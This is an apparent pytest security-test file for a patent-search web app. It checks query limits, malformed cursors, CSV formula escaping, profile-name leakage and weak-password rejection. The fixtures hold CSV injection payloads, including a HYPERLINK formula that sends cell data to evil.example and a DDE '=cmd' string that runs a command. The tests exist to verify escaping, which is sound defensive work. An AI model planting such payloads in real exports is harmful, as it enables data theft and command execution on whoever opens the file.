"""Attacks on limits and outputs through the real ASGI app (issue 14, points 4 and 5): huge and deep queries, a
malformed cursor, an oversized saved profile that used to stop everyone's matching, formula cells in report CSVs,
a 409 telling another outlet's profile names, weak staff passwords."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from harvest.ingest import parse_path
from index.base import SearchRequest
from index.embedded import EmbeddedIndex
from index.query.parser import MAX_DEPTH, MAX_TERMS
from matching.engine import MatchingEngine
from matching.store import MatchStore
from patentsift.config import Config
from patentsift.db import open_database
from patentsift.web.app import create_app
from subscribers import service
from subscribers.profiles import Profile
from tests.conftest import SAMPLE_DATA

PASSWORD = "correct horse battery"
HUGE = " OR ".join(f"word{i}" for i in range(1000))  # ~1,000 terms: the query that made `match` store nothing
DEEP = "(" * (MAX_DEPTH + 5) + "glove" + ")" * (MAX_DEPTH + 5)


@pytest.fixture(scope="module")
def cfg(tmp_path_factory: pytest.TempPathFactory) -> Config:
    data_dir: Path = tmp_path_factory.mktemp("attack-limits")
    cfg = Config(data_dir=data_dir, secret_key="k" * 48)
    with EmbeddedIndex(cfg.index_path) as index:
        assert not index.upsert(list(parse_path(SAMPLE_DATA / "uspto"))).failed
    with open_database(cfg) as db, db.begin() as s:
        east, west = service.create_outlet(s, "East"), service.create_outlet(s, "West")
        service.create_staff(s, east.id, "staff@east.example", PASSWORD, name="Ada")
        service.create_staff(s, west.id, "admin@west.example", PASSWORD, role="admin")
        for name in ('=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                     "Plain Works"):
            service.create_organization(s, east.id, name)
    with open_database(cfg) as db:
        MatchStore(db.sessions).save_profile(Profile(name="west-private", owner="outlet:2", outlet_id=2,
                                                     description="west only", query="glove"))
    return cfg


def csrf_from(html: str) -> str:
    m = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert m, "the page has no CSRF field"
    return m.group(1)


@pytest.fixture
def client(cfg: Config) -> Iterator[TestClient]:
    """East staff, logged in; server errors come back as 500 responses (not raised), as a browser sees them."""
    with TestClient(create_app(cfg, testing=True), raise_server_exceptions=False) as c:
        token = csrf_from(c.get("/login").text)
        res = c.post("/login", data={"email": "staff@east.example", "password": PASSWORD, "csrf_token": token},
                     follow_redirects=False)
        assert res.status_code == 303
        c.headers["X-CSRF-Token"] = csrf_from(c.get("/search").text)
        yield c


# --- 4. limits on queries -----------------------------------------------------------------------------------
def test_huge_and_deep_search_queries_are_refused_with_the_limit_named(client: TestClient) -> None:
    for q, limit in ((HUGE, "MAX_TERMS"), (" AND ".join(["glove"] * (MAX_TERMS + 1)), "MAX_TERMS"),
                     (DEEP, "MAX_DEPTH"), ("NOT " * 500 + "glove", "MAX_DEPTH")):
        res = client.get("/api/search", params={"q": q})
        assert res.status_code == 400, res.text[:300]
        assert limit in res.json()["error"]
        page = client.get("/search", params={"q": q})
        assert page.status_code == 400 and limit in page.text
    at_limit = " OR ".join(["glove", *(f"word{i}" for i in range(MAX_TERMS - 1))])
    res = client.get("/api/search", params={"q": at_limit})
    assert res.status_code == 200 and res.json()["total"] > 0  # up to the limit, queries run


@pytest.mark.parametrize("cursor", ["garbage", "W10", "eyJhIjogMX0", "bnVsbA", "!!!!", "WyJhIiwgImIiLCAiYyJd",
                                    "x" * 5000])
def test_a_malformed_cursor_is_a_bad_request_not_a_server_error(client: TestClient, cursor: str) -> None:
    for url in ("/api/search", "/search"):
        res = client.get(url, params={"q": "glove", "cursor": cursor})
        assert res.status_code in (400, 422), (url, res.status_code, res.text[:300])


def test_a_profile_over_the_limits_is_refused_when_saved(client: TestClient) -> None:
    for query, limit in ((HUGE, "MAX_TERMS"), (DEEP, "MAX_DEPTH")):
        res = client.post("/api/profiles", json={"name": "huge", "query": query})
        assert res.status_code == 422 and limit in str(res.json()), res.text[:300]
        page = client.post("/profiles/new", data={"name": "huge", "query": query, "threshold": "0.3"})
        assert page.status_code == 422 and limit in page.text
    assert client.get("/api/profiles/huge").status_code == 404


def test_one_bad_profile_never_stops_the_matching_of_the_others(cfg: Config) -> None:
    """A profile saved before the limits (or written to the database directly) with ~1,000 terms, and one whose
    lexical scoring fails: both are skipped and reported, every other profile is matched."""
    with open_database(cfg) as db, EmbeddedIndex(cfg.index_path) as index:
        store = MatchStore(db.sessions)
        store.save_profile(Profile(name="bad-huge", query=HUGE, threshold=0.01))  # no validation on this path
        store.save_profile(Profile(name="bad-boom", query="glove AND boom", threshold=0.01))
        store.save_profile(Profile(name="good-gloves", query="glove", threshold=0.01))
        store.save_profile(Profile(name="good-too", query="glove OR sensor", threshold=0.01))
        real = index.lexical_scores

        def lexical_scores(queries, *args, **kwargs):  # type: ignore[no-untyped-def]
            if any("boom" in repr(q) for q in queries):
                raise sqlite3.OperationalError("Expression tree is too large (maximum depth 1000)")
            return real(queries, *args, **kwargs)

        index.lexical_scores = lexical_scores  # type: ignore[method-assign]
        names = ["bad-huge", "bad-boom", "good-gloves", "good-too"]
        report = MatchingEngine(index, store).run(names)
        assert set(report.failed) == {"bad-huge", "bad-boom"}
        assert "MAX_TERMS" in report.failed["bad-huge"] and "too large" in report.failed["bad-boom"]
        assert report.stored.get("good-gloves") and report.stored.get("good-too")
        assert store.watermark("bad-huge") == 0 and store.watermark("bad-boom") == 0  # retried after a fix
        assert store.watermark("good-gloves") > 0
        for name in names:
            store.delete_profile(name)


def test_matching_still_fails_loudly_when_every_profile_fails(cfg: Config) -> None:
    with open_database(cfg) as db, EmbeddedIndex(cfg.index_path) as index:
        store = MatchStore(db.sessions)
        store.save_profile(Profile(name="only-bad", query=HUGE))
        try:
            with pytest.raises(ValueError, match="MAX_TERMS"):
                MatchingEngine(index, store).run(["only-bad"])
        finally:
            store.delete_profile("only-bad")


def test_the_limits_leave_room_for_the_backend(cfg: Config) -> None:
    """Queries right at the limits run on the embedded index (SQLite's expression depth, FTS5's)."""
    from index.query.parser import parse_query

    words = [f"w{i}" for i in range(MAX_TERMS - 1)] + ["glove"]
    queries = [" OR ".join(words), " AND ".join(words), " AND ".join(f"NOT {w}" for w in words[:-1]) + " AND glove",
               "(" * (MAX_DEPTH - 1) + " OR ".join(words[:100]) + ")" * (MAX_DEPTH - 1),
               "NOT (" * (MAX_DEPTH // 2 - 1) + " AND ".join(words[:150]) + ")" * (MAX_DEPTH // 2 - 1)]
    with EmbeddedIndex(cfg.index_path) as index:
        for q in queries:
            tree = parse_query(q)
            index.search(SearchRequest(tree, limit=5, highlight=True, facets=["ipc"]))
            index.lexical_scores([tree], None, 5, None)


# --- 5. outputs -----------------------------------------------------------------------------------------------
def test_report_csv_cells_cannot_run_as_formulas(cfg: Config) -> None:
    with TestClient(create_app(cfg, testing=True)) as c:
        token = csrf_from(c.get("/login").text)
        assert c.post("/login", data={"email": "admin@west.example", "password": PASSWORD, "csrf_token": token},
                      follow_redirects=False).status_code == 303
        res = c.get("/reports.csv")
    assert res.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(res.text)) for cell in row]
    assert "Plain Works" in cells
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")" in cells
    assert {"'+1+1", "'-2+3", "'@SUM(A1:A9)"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_report_csv_file_escapes_formulas_too(tmp_path: Path) -> None:
    from distribution.reports import Figures, Report, Row, csv_cell, write_csv

    assert [csv_cell(v) for v in ("=1+1", "\tx", "\rx", "a=b", 12, -3, "")] == ["'=1+1", "'\tx", "'\rx", "a=b",
                                                                                 12, -3, ""]
    report = Report(start=None, end=None, outlet="=cmd|' /C calc'!A0", rows=[  # type: ignore[arg-type]
        Row("organization", "East", "@evil", Figures())], monthly={"2026-11": Figures()})
    write_csv(report, tmp_path / "r.csv")
    cells = [c for row in csv.reader((tmp_path / "r.csv").open(encoding="utf-8", newline="")) for c in row]
    assert "'@evil" in cells and "'=cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_a_taken_profile_name_does_not_tell_whose_it_is(client: TestClient) -> None:
    assert client.post("/api/profiles", json={"name": "east-own", "query": "glove"}).status_code == 201
    mine = client.post("/api/profiles", json={"name": "east-own", "query": "glove"})
    hidden = client.post("/api/profiles", json={"name": "west-private", "query": "glove"})
    assert mine.status_code == hidden.status_code == 409
    assert mine.json()["error"].replace("east-own", "NAME") == hidden.json()["error"].replace("west-private", "NAME")
    assert "exist" not in hidden.json()["error"] and "outlet" not in hidden.json()["error"]
    page = client.post("/profiles/new", data={"name": "west-private", "query": "glove"})
    assert page.status_code == 422 and "already exists" not in page.text
    assert client.get("/api/profiles/west-private").status_code == 404  # and it stays out of sight
    client.delete("/api/profiles/east-own")


@pytest.mark.parametrize("password, why", [
    ("short pass", "at least 12 characters"),
    ("Password1234", "most common passwords"),
    ("qwerty123456", "most common passwords"),
    ("correct-horse-battery-staple", "most common passwords"),
    ("aaaaaaaaaaaaaaaa", "different characters"),
    ("newbie@east.example", "e-mail address"),
])
def test_weak_staff_passwords_are_refused(cfg: Config, password: str, why: str) -> None:
    with open_database(cfg) as db, db.begin() as s:
        with pytest.raises(service.SubscriberError, match=why):
            service.create_staff(s, 1, "newbie@east.example", password)
        assert service.create_staff(s, 1, f"ok{abs(hash(password))}@east.example", "plenty of entropy here").id
